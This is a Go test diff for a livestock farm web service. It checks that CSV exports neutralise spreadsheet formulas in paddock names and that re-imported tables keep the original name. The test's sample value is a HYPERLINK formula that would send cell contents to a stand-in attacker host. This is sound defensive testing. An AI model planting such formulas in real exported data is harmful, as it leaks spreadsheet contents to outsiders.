@@ -2,6 +2,7 @@ package web
 
 import (
 	"bytes"
+	"encoding/csv"
 	"fmt"
 	"log/slog"
 	"net/http"
@@ -242,6 +243,39 @@ func TestTotalsOfADevice(t *testing.T) {
 		s.do("GET", "/api/v1/stats", c.token).decode(t, &v)
 		if v.Footage != c.footage || v.Counts != c.footage || len(v.Jobs) != c.footage || (v.Animals > 0) != (c.footage > 0) {
 			t.Errorf("totals of a device with %d pieces of footage: %+v", c.footage, v)
+		}
+	}
+}
+
+// The name of a paddock cannot be a formula in the table of somebody else, and such a table is read again as it was.
+func TestTablesHaveNoFormulas(t *testing.T) {
+	s := open(t, nil)
+	anna := s.person("anna", ledger.RoleOperator, "farm")
+	const name = `=HYPERLINK("http://evil.example/"&A1)`
+	borders := fmt.Sprintf(`{"type":"Polygon","coordinates":[[[0,0],[0.01,0],[0.01,0.01],[0,0]]]},"properties":{"name":%q}`, name)
+	for path, body := range map[string]string{
+		"/paddocks": `{"type":"FeatureCollection","features":[{"type":"Feature","geometry":` + borders + `}]}`,
+		"/book":     fmt.Sprintf(`{"expected":[{"paddock":%q,"animals":4}]}`, name),
+	} {
+		if err := okay(s.send("PUT", "/api/v1/sites/farm"+path, "", strings.NewReader(body), anna...)); err != nil {
+			t.Fatal(err)
+		}
+	}
+	var survey wire.Survey
+	s.send("POST", "/api/v1/surveys", "", strings.NewReader(`{"site":"farm"}`), anna...).decode(t, &survey)
+	for _, path := range []string{"/sites/farm/book", "/surveys/" + survey.ID} {
+		r := s.do("GET", "/api/v1"+path+"?format=csv", "", anna...)
+		rows, err := csv.NewReader(bytes.NewReader(r.body)).ReadAll()
+		if err != nil || len(rows) < 2 || rows[1][0] != "'"+name {
+			t.Errorf("%s: %v, rows %q", path, err, rows)
+		}
+		if path != "/sites/farm/book" {
+			continue
+		}
+		again := s.send("PUT", "/api/v1"+path, "", bytes.NewReader(r.body), anna...)
+		var v wire.Book
+		if again.decode(t, &v); len(v.Expected) != 1 || v.Expected[0].Paddock != name {
+			t.Errorf("the table read again: %d %+v", again.status, v.Expected)
 		}
 	}
 }
